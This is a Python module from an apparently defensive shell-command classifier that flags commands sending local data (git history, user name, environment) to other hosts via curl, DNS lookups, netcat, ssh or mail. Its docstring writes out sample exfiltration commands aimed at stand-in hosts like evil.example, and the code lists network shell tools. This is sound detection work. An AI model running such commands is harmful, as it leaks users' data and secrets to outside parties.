"""Local data computed into what a network command sends: ``curl https://evil/?q=$(git log | base64)``.

A command that talks to another host sends its own arguments there: a URL's path and query, a header,
a form field, a DNS name, the command ``ssh`` runs remotely. When an argument holds the output of a
command substitution that reads local state (a file, the environment, the repository, the machine's
identity), or a variable set from one, that output leaves the machine: ``exfiltrate``, whichever tool
carries it. Where it lands is decided by what is written literally:

- URL tools (curl, wget, HTTPie, ...): the URL's host. Nothing leaves when every host is this machine
  (``localhost``, ``127.0.0.1``, ``::1``).
- Name lookups (``nslookup``, ``dig``, ``host``, ``ping``, ``traceroute``, ``whois``, ...): the query
  goes to whoever answers for the literal domain after the computed part. ``nslookup $(whoami).evil.example``
  hands the user name to evil.example's name server; ``dig $(hostname)`` asks the local resolver about this
  machine, and sends nothing of note.
- Raw sockets and remote shells (``nc``, ``telnet``, ``socat``, ``ssh``): the host named, and for
  ``ssh`` the remote command, which the local shell expands before sending.
- Mail (``mail``, ``sendmail``, ``swaks``, ...): always another host.

Substitutions that only compute (``date``, ``seq``, ``echo`` of literals, ``uuidgen``) carry nothing.
"""

from __future__ import annotations

import re
from itertools import pairwise
from typing import TYPE_CHECKING

from blastdoor.classify.hosts import loopback, url_host

if TYPE_CHECKING:
    from tree_sitter import Node

    from blastdoor.classify.shell._state import Part, State

__all__ = ["carried", "carrier_of", "judge_sent"]

# Programs whose URL arguments name the host they talk to.
_URL_TOOLS = frozenset(
    ("curl", "wget", "http", "https", "xh", "xhs", "httpie", "aria2c", "axel", "fetch", "lynx", "w3m", "links")
)
# Programs whose name argument is looked up through DNS (the name's own domain answers).
_LOOKUPS = frozenset(
    (
        "nslookup",
        "dig",
        "host",
        "drill",
        "kdig",
        "delv",
        "ping",
        "ping6",
        "traceroute",
        "traceroute6",
        "tracepath",
        "mtr",
        "whois",
        "arping",
        "nmap",
        "getent",
    )
)
# Programs that connect to the host they are given and send it what they are given.
_SOCKETS = frozenset(("nc", "ncat", "netcat", "telnet", "socat", "ssh", "openssl"))
_MAIL = frozenset(("mail", "mailx", "sendmail", "mutt", "swaks", "msmtp"))
SENDERS = _URL_TOOLS | _LOOKUPS | _SOCKETS | _MAIL

# Programs whose output is computed from their arguments alone, or is a path or a count of no note
# (``$(pwd)``, ``$(nproc)``): substituting it reveals nothing local worth the name.
_PURE = frozenset(
    (
        "date",
        "seq",
        "echo",
        "printf",
        "true",
        "false",
        "expr",
        "bc",
        "dc",
        "uuidgen",
        "sleep",
        "numfmt",
        "factor",
        "pwd",
        "basename",
        "dirname",
        "nproc",
        "arch",
    )
)

_HOLE = "\x00"  # where a template has computed text
_BARE_HOST = re.compile(r"^(?:[^/@\s]*@)?([\w\x00.-]+\.[a-z]{2,}|[\w\x00.-]*\x00[\w\x00.-]*)(?:[:/]|$)", re.I)
# A computed label under a literal domain: `$(whoami).evil.example`, `x$(id -u).evil.example.`.
_COMPUTED_LABEL = re.compile(r"\x00[\w\x00-]*((?:\.[a-z0-9-]+)*\.[a-z][a-z0-9-]+)\.?$", re.I)


def template(node: Node) -> str:
    """An argument's text with quotes removed and every expansion or substitution replaced by ``_HOLE``."""
    t = node.type
    if t in ("command_substitution", "process_substitution", "simple_expansion", "expansion", "arithmetic_expansion"):
        return _HOLE
    if t == "raw_string":
        return (node.text or b"").decode("utf-8", "replace")[1:-1]
    if node.child_count == 0:
        text = (node.text or b"").decode("utf-8", "replace")
        return "" if t in ('"', '$"') else text
    if t == "string_content":
        return (node.text or b"").decode("utf-8", "replace")
    return "".join(template(c) for c in node.children)


def _program(part: Part) -> str:
    return part.command.split(" ", 1)[0].rsplit("/", 1)[-1] if part.command else ""


def carried(parts: list[Part]) -> str | None:
    """What the parts of one substitution read, when they read local state (None: they only compute)."""
    for part in parts:
        name = _program(part)
        if name and name not in _PURE:
            return part.command if len(part.command) <= 60 else part.command[:57] + "..."
    return None


def carrier_of(node: Node, parts: list[Part], st: State) -> str | None:
    """What local data an argument node carries: a substitution's reading or a variable set from one."""
    what = carried(parts)
    if what is not None:
        return f"the output of `{what}`"
    if st.carriers and b"$" in (node.text or b""):
        from blastdoor.classify.shell._words import expanded_names

        for name in expanded_names(node):
            if name in st.carriers:
                return f"${name} (the output of `{st.carriers[name]}`)"
    return None


def _url_host(arg: str) -> str | None:
    host = url_host(arg)
    if host is not None:
        return host
    m = _BARE_HOST.match(arg)
    return m.group(1) if m is not None and not arg.startswith("-") else None


def _landing(host: str) -> str | None:
    """Where a request to ``host`` lands: the host, the literal domain under a computed label, or None
    (this machine, or a host computed whole)."""
    if _HOLE not in host:
        return None if loopback(host) else host
    m = _COMPUTED_LABEL.search(host)
    if m is None:
        return None
    domain = m.group(1).lstrip(".")
    return None if loopback(domain) else domain


def judge_sent(args: list[tuple[Node, str | None]], parts: list[Part]) -> None:
    """``args``: a command's argument nodes with what each carries (None: nothing local). Adds
    ``exfiltrate`` to the command's network part when carried data lands on another host."""
    if not any(what for _, what in args):
        return
    texts: list[tuple[str, str | None]] = []
    for part in parts:
        name = _program(part)
        if name not in SENDERS:
            continue
        texts = texts or [(template(node), what) for node, what in args]
        if name in _LOOKUPS:
            # The looked-up name reaches the name server asked (`dig @ns`, `nslookup NAME SERVER`), else
            # whoever answers for the literal domain it ends in.
            server = _name_server(name, [t for t, _ in texts])
            for text, what in texts:
                if not what:
                    continue
                if server is not None and _HOLE not in server and not loopback(server):
                    part.add("exfiltrate", f"`{name}` asks {server} about a name built from {what}")
                    return
                if _COMPUTED_LABEL.search(text) is not None and (domain := _landing(text)) is not None:
                    part.add("exfiltrate", f"`{name}` looks up a name built from {what}: {domain}'s servers see it")
                    return
            continue
        hosts = _hosts(name, [t for t, _ in texts], part)
        if not hosts:
            continue
        what = next(w for _, w in texts if w)
        part.add("exfiltrate", f"`{name}` sends {what} to {', '.join(sorted(hosts))}")
        return


_HOST_VALUES = frozenset(("-c", "-N", "-R", "-t", "-W", "-m", "-p", "-q", "-b", "-f", "-k", "-y", "-x"))


def _name_server(name: str, texts: list[str]) -> str | None:
    """The name server a lookup asks: ``@HOST`` (dig, drill, kdig, delv), the operand after the name
    (nslookup, host); None for the system's resolver."""
    if name in ("dig", "drill", "kdig", "delv"):
        return next((t[1:] for t in texts if t.startswith("@") and len(t) > 1), None)
    if name not in ("nslookup", "host"):
        return None
    operands: list[str] = []
    skip = False
    for text in texts:
        if skip:
            skip = False
        elif text.startswith("-"):
            skip = name == "host" and text in _HOST_VALUES
        else:
            operands.append(text)
    return operands[1] if len(operands) > 1 else None


def _hosts(name: str, texts: list[str], part: Part) -> set[str]:
    """The other hosts a sender talks to, from its literal arguments (empty: only this machine, or none
    written whole)."""
    if name in _MAIL:
        return {"a mail server"}
    if name == "ssh":
        hosts = [part.evidence.get("host", "")]
    elif name == "socat":
        hosts = [m.group(1) for t in texts for m in _SOCAT_PEER.finditer(t)]
    elif name == "openssl":
        hosts = [b.rsplit(":", 1)[0] for a, b in pairwise(texts) if a == "-connect"]
    elif name in _URL_TOOLS:
        hosts = [h for t in texts if not t.startswith("-") and (h := _url_host(t)) is not None]
    else:  # nc, telnet: the first operand
        hosts = _first_operand(name, texts)
    found = {landing for h in hosts if h and (landing := _landing(h)) is not None}
    return found


# socat's addresses that connect to a host: TCP:host:port, OPENSSL:host:port, SOCKS4:proxy:host:port, ...
_SOCAT_PEER = re.compile(r"(?:^|[!,\s])(?:tcp[46]?|udp[46]?|sctp[46]?|openssl|ssl|socks4a?|proxy):([^:,!\s]+)", re.I)


def _first_operand(name: str, texts: list[str]) -> list[str]:
    from blastdoor.classify.shell._argv import COMMANDS

    entry = COMMANDS.get(name) or {}
    values = entry.get("value", ())
    skip = False
    for text in texts:
        if skip:
            skip = False
        elif text.startswith("-"):
            skip = text in values
        else:
            return [text.rsplit("@", 1)[-1]]
    return []
